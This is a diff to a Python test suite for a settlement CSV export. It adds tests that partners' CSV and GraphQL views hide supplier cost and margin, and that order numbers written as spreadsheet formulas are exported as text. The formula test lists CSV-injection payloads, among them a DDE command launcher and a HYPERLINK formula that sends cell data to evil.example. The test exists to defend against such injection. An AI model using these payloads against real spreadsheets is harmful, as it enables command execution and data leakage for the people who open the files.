@@ -3,6 +3,8 @@ the CSV export; reconciliation of the other side's records."""
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import AsyncIterator
 from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
@@ -99,7 +101,7 @@ def bearer(key: str | None) -> dict[str, str]:
 
 
 async def test_the_csv_export_lists_every_line_with_money_as_decimals(shop: Shop, books: Books) -> None:
-    response = await client(shop).get(f"/settlement/{books.statement}.csv", headers=bearer(books.ours.key))
+    response = await client(shop).get(f"/settlement/{books.statement}.csv", headers=bearer(shop.keys.admin))
 
     assert (response.status_code, response.headers["content-type"]) == (200, "text/csv; charset=utf-8")
     sku = shop.extra["ten"].code
@@ -110,6 +112,58 @@ async def test_the_csv_export_lists_every_line_with_money_as_decimals(shop: Shop
         f"{second},TB-2,{sku},2,20.00,18.00,1.00,1.00,0.00",
         f"{third},TB-3,{sku},3,30.00,27.00,1.50,1.50,30.00",
     ]
+
+
+async def test_a_partners_export_leaves_out_supplier_cost_and_margin(shop: Shop, books: Books) -> None:
+    response = await client(shop).get(f"/settlement/{books.statement}.csv", headers=bearer(books.ours.key))
+
+    assert response.status_code == 200
+    sku = shop.extra["ten"].code
+    first, second, third = (o.number for o in books.orders)
+    assert response.text.splitlines() == [
+        "order_number,external_order_number,sku,quantity,gross,commission,refunded",
+        f"{first},TB-1,{sku},1,10.00,0.50,0.00",
+        f"{second},TB-2,{sku},2,20.00,1.00,0.00",
+        f"{third},TB-3,{sku},3,30.00,1.50,30.00",
+    ]
+
+
+FIGURES = """
+query N($id: ID!) { node(id: $id) { ... on SettlementStatement {
+  totals { gross { amount } supplierCost { amount } commission { amount } margin { amount } net { amount } }
+  lines(first: 1) { edges { node { gross { amount } cost { amount } commission { amount } margin { amount } } } } } } }
+"""
+
+
+async def test_a_partner_reads_its_statement_without_supplier_cost_or_margin(shop: Shop, books: Books) -> None:
+    partner = await shop.gql(FIGURES, {"id": books.statement}, key=books.ours.key)
+    operator = await shop.gql(FIGURES, {"id": books.statement}, key=shop.keys.admin)
+
+    assert partner == {"data": {"node": {
+        "totals": {"gross": {"amount": "60.00"}, "supplierCost": None, "commission": {"amount": "3.00"}, "margin": None,
+                   "net": {"amount": "28.50"}},
+        "lines": {"edges": [{"node": {"gross": {"amount": "10.00"}, "cost": None, "commission": {"amount": "0.50"}, "margin": None}}]},
+    }}}
+    assert operator["data"]["node"]["totals"]["supplierCost"] == {"amount": "54.00"}
+    assert operator["data"]["node"]["lines"]["edges"][0]["node"]["margin"] == {"amount": "0.50"}
+
+
+# Order numbers a partner could send as its own (the idempotency key), each a formula to a spreadsheet.
+FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)"]
+
+
+async def test_an_order_number_that_is_a_formula_opens_as_text(shop: Shop) -> None:
+    partner, ten = await new_partner(shop.db), shop.extra["ten"]
+    for day, external in enumerate(FORMULAS, start=1):
+        await delivered_order(shop.db, partner.channel, (ten, 1), at=JUNE + timedelta(days=day), external=external)
+    statement = await statement_of(shop, "CHANNEL", partner.channel)
+
+    exports = [await client(shop).get(f"/settlement/{statement}.csv", headers=bearer(key)) for key in (shop.keys.admin, partner.key)]
+
+    for export in exports:
+        rows = list(csv.DictReader(io.StringIO(export.text)))
+        assert [row["external_order_number"] for row in rows] == ["'" + external for external in FORMULAS]
+        assert [row["gross"] for row in rows] == ["10.00"] * len(FORMULAS)  # amounts stay numbers
 
 
 @pytest.mark.parametrize(
